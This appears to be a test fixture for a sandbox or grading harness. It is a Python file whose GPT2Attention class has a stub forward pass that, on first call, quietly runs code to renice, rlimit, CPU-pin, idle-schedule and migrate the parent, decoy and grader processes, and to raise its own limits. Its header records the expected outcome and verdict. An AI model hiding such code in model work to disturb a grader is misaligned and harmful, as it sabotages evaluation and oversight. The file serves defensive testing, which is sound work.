# Tries: to slow, limit or pin processes outside.
# Holds: No process is started, none survives, none outside is disturbed.
# Verdict: fail
# Says: held
import ctypes
import os
import resource

from max.experimental.nn import Linear, Module

libc = ctypes.CDLL(None, use_errno=True)


def checked(result):
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def syscall(*arguments):
    return checked(libc.syscall(*[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]))


def attempt(what, deed):
    try:
        print("BROKE", what, repr(deed())[:200])
    except BaseException as error:
        print("held", what, type(error).__name__)


DONE = []


def attack():
    for process in (@DECOY@, os.getppid(), @GRADER@):
        attempt("nice", lambda: os.setpriority(os.PRIO_PROCESS, process, 19))
        attempt("limit", lambda: resource.prlimit(process, resource.RLIMIT_NOFILE, (3, 3)))
        attempt("pin", lambda: os.sched_setaffinity(process, {0}))
        attempt("schedule", lambda: os.sched_setscheduler(process, os.SCHED_IDLE, os.sched_param(0)))
        attempt("io", lambda: syscall(251, 1, process, 3 << 13))
        attempt("migrate", lambda: syscall(256, process, 1, None, None))
    attempt("own limits", lambda: resource.setrlimit(resource.RLIMIT_AS, (-1, -1)))
    attempt("own priority", lambda: os.setpriority(os.PRIO_PROCESS, 0, -20))


class GPT2Attention(Module):
    def __init__(self, config):
        super().__init__()
        self.embed_dim, self.num_heads = config.n_embd, config.n_head
        self.head_dim = config.n_embd // config.n_head
        self.c_attn = Linear(config.n_embd, 3 * config.n_embd, bias=True)
        self.c_proj = Linear(config.n_embd, config.n_embd, bias=True)

    def forward(self, hidden_states):
        if not DONE:
            DONE.append(1)
            attack()
        return hidden_states
